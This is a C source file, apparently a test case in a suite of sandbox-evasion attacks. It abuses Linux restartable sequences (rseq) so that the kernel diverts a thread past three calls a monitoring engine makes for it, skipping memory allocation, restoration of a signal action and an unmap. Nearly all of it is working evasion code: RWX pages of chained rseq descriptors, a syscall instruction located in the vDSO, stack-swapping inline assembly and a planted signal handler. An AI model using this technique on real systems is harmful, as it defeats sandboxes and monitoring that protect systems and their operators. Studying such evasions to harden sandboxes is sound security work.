/* Evasion: the first thread says that it is in a restartable sequence (rseq(2)) where an engine has it make calls. The kernel sends it to
 * an instruction of its own instead, which jumps behind that place as if the call had been made, and begins the next sequence: by that
 * three calls are skipped, for memory for arguments (where there is some of the request's), to set an action back, and to unmap that. */
#define VICTIM_OWN_READ
#include "mappings.h"
#include <sys/auxv.h>
#include <sys/rseq.h>

enum { SKIPPED = 3, STEP = 256, TARGET = 2048, SCRATCH = 16 * PAGE, HAS_RESTORER = 0x04000000 };

struct sequence {
    uint32_t version, flags;
    uint64_t start, length, aborted;
};
struct action {
    unsigned long handler, flags, restorer, mask;
};
static unsigned char *code;
static char *place; /* of the address of the sequence, for the kernel */
static uintptr_t hole;
static bool is_armed;

static void prepare(void)
{
    static const unsigned char call_by_address[] = {0xff, 0x15}, jump_by_address[] = {0xff, 0x25};
    static const uint32_t signature = RSEQ_SIG;
    const unsigned char *instruction = (const unsigned char *)getauxval(AT_SYSINFO_EHDR);
    while (memcmp(instruction, "\x0f\x05", 2) != 0)
        instruction++;
    code = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    check(code != MAP_FAILED, "mmap");
    *(uintptr_t *)(code + TARGET) = (uintptr_t)instruction + 2;
    for (int number = 0; number <= SKIPPED; number++) {
        unsigned char *at = code + number * STEP;
        struct sequence next = {0, 0, (uintptr_t)instruction, 2, (uintptr_t)at + STEP};
        if (number > 0) {
            int32_t distance = (int32_t)(code + TARGET - (at + 6));
            memcpy(at - sizeof signature, &signature, sizeof signature);
            memcpy(at, number < SKIPPED ? call_by_address : jump_by_address, 2);
            memcpy(at + 2, &distance, sizeof distance);
            at += 6;
        }
        memcpy(at, &next, sizeof next);
    }
    place = (char *)__builtin_thread_pointer() + __rseq_offset + offsetof(struct rseq, rseq_cs);
    hole = find_hole();
}

/* A call of the code pushes the address of the next sequence to where the kernel looks for it. */
static ssize_t read_request(char *line, size_t size)
{
    ssize_t result = SYS_read;
    if (!is_armed)
        return read(REQUEST_FD, line, size);
    is_armed = false;
    __asm__ volatile("mov %%rsp, %%r12\n"
                     "mov %1, %%rsp\n"
                     "mov %2, -8(%%rsp)\n"
                     "syscall\n"
                     "mov %%r12, %%rsp"
                     : "+a"(result)
                     : "r"(place + 8), "r"(code), "D"((long)REQUEST_FD), "S"(line), "d"(size)
                     : "rcx", "r11", "r12", "memory");
    return result;
}

static void handle(const char *secret)
{
    struct action now = {0}, next = {PAGE + strtoul(secret + 1, NULL, 10), HAS_RESTORER, PAGE, 0};
    check(syscall(SYS_rt_sigaction, SIGUSR2, &next, &now, sizeof now.mask) == 0, "rt_sigaction");
    check(mmap((void *)hole, SCRATCH, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != MAP_FAILED,
          "mmap");
    is_armed = true;
    answer("{\"handler\":%lu}", now.handler);
}
